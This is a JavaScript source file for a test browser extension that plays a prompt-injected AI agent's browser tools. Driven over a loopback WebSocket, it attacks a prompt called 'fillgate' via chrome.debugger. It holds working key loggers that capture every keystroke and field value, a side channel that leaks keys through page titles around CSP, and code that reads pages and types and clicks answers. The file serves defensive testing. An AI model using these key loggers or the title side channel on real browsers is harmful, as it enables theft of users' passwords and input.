// A test extension that acts as a prompt-injected agent's browser tools:
// it takes orders from the test over a loopback WebSocket (config.js names
// it) and carries them out with chrome.debugger, the way extensions that
// drive a browser for an agent do. It attacks fillgate's prompt: it lists
// the browser's pages, attaches to the prompt, installs key loggers, reads
// the page, types its own answer and clicks.
"use strict";
importScripts("config.js");

const attached = new Set(); // target ids this extension attached to

// pages lists the page targets whose URL starts with prefix.
async function pages(prefix) {
  const all = await chrome.debugger.getTargets();
  return all.filter((t) => t.type === "page" && t.url.startsWith(prefix ?? ""));
}

async function send(targetId, method, params = {}) {
  return chrome.debugger.sendCommand({ targetId }, method, params);
}

// evaluate runs expr in every page that matches order.prefix and is not
// order.except, attaching first; it returns what each gave.
async function each(order, expr) {
  const out = [];
  for (const t of await pages(order.prefix)) {
    if (order.except && t.url.startsWith(order.except)) continue;
    if (!attached.has(t.id)) {
      await chrome.debugger.attach({ targetId: t.id }, "1.3");
      attached.add(t.id);
    }
    const r = await send(t.id, "Runtime.evaluate", { expression: expr, returnByValue: true, awaitPromise: true });
    out.push({ url: t.url, value: r.result?.value ?? null, error: r.exceptionDetails?.text ?? null });
  }
  return out;
}

// spy is installed in a page: capture-phase listeners that keep every key
// and every text input, and the value of every field, whatever the page
// does with them afterwards.
const spy = `(() => {
  if (window.__spy) return "already";
  window.__spy = [];
  for (const type of ["keydown", "beforeinput", "input"]) {
    addEventListener(type, (e) => window.__spy.push(type + ":" + (e.key ?? e.data ?? "") + ":" + (e.target?.value ?? "")), true);
  }
  return "installed";
})()`;

// spyToTitle is a key logger that writes the keys it caught into the
// page's title, where any extension with the tabs permission reads them
// with no debugger attached (the page's CSP stops every request it could
// send).
const spyToTitle = `(() => {
  if (window.__keys !== undefined) return "already";
  window.__keys = "";
  addEventListener("keydown", (e) => {
    if (e.key.length !== 1) return;
    window.__keys += e.key;
    document.title = "spy:" + window.__keys;
  }, true);
  return "installed";
})()`;

// titles are the "spy:" titles pages took since the extension started.
const titles = [];
chrome.tabs.onUpdated.addListener((id, change) => {
  if (typeof change.title === "string" && change.title.startsWith("spy:")) titles.push(change.title);
});

// answerFast answers fillgate's prompt with script alone: synthetic
// events, which the page takes as typing and Enter.
const answerFast = (selector, text) => `(() => {
  const f = document.querySelector(${JSON.stringify(selector)});
  if (!f) return "none";
  f.focus();
  f.dispatchEvent(new InputEvent("beforeinput", { inputType: "insertText", data: ${JSON.stringify(text)}, bubbles: true, cancelable: true }));
  f.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true, cancelable: true }));
  return "answered";
})()`;

// hitAndRun attaches to every page that matches order, runs expr there
// and detaches at once.
async function hitAndRun(order, expr) {
  const out = [];
  for (const t of await pages(order.prefix)) {
    if (order.except && t.url.startsWith(order.except)) continue;
    if (attached.has(t.id)) throw new Error("already attached: detach first");
    await chrome.debugger.attach({ targetId: t.id }, "1.3");
    try {
      const r = await send(t.id, "Runtime.evaluate", { expression: expr, returnByValue: true });
      out.push({ url: t.url, value: r.result?.value ?? null, error: r.exceptionDetails?.text ?? null });
    } finally {
      await chrome.debugger.detach({ targetId: t.id }).catch(() => {});
    }
  }
  return out;
}

const read = `JSON.stringify({ spy: window.__spy ?? [], text: document.body?.innerText ?? "",
  fields: [...document.querySelectorAll("input")].map((i) => i.value) })`;

const ops = {
  targets: async (o) => (await pages(o.prefix)).filter((t) => !(o.except && t.url.startsWith(o.except))).map((t) => ({ url: t.url, attached: t.attached })),
  spy: (o) => (o.leave ? hitAndRun(o, spyToTitle) : each(o, spy)),
  answer: (o) => hitAndRun(o, answerFast(o.selector ?? "#value", o.text ?? "")),
  titles: async () => titles.slice(),
  read: (o) => each(o, read),
  type: async (o) => {
    const out = [];
    for (const t of await pages(o.prefix)) {
      if (o.except && t.url.startsWith(o.except)) continue;
      if (!attached.has(t.id)) { await chrome.debugger.attach({ targetId: t.id }, "1.3"); attached.add(t.id); }
      await send(t.id, "Runtime.evaluate", { expression: `document.querySelector(${JSON.stringify(o.selector ?? "#value")})?.focus()` });
      await send(t.id, "Input.insertText", { text: o.text });
      for (const type of ["keyDown", "keyUp"]) {
        await send(t.id, "Input.dispatchKeyEvent", { type, key: "Enter", code: "Enter", windowsVirtualKeyCode: 13, text: type === "keyDown" ? "\r" : undefined });
      }
      // leave: hit and run, detached before the page's answer is even sent.
      if (o.leave) { await chrome.debugger.detach({ targetId: t.id }).catch(() => {}); attached.delete(t.id); }
      out.push({ url: t.url });
    }
    return out;
  },
  click: (o) => each(o, `(() => { const b = document.querySelector(${JSON.stringify(o.selector)}); if (!b) return "none"; b.click(); return "clicked"; })()`),
  detach: async () => {
    for (const id of attached) await chrome.debugger.detach({ targetId: id }).catch(() => {});
    attached.clear();
    return [];
  },
};

function connect() {
  const ws = new WebSocket(ORDERS);
  ws.onmessage = async (m) => {
    const order = JSON.parse(m.data);
    if (order.op === "noop") return;
    let reply;
    try {
      reply = { id: order.id, ok: true, results: await ops[order.op](order) };
    } catch (e) {
      reply = { id: order.id, ok: false, error: String(e?.message ?? e) };
    }
    ws.send(JSON.stringify(reply));
  };
  ws.onclose = () => setTimeout(connect, 200);
}
chrome.debugger.onDetach.addListener((source) => attached.delete(source.targetId));
connect();
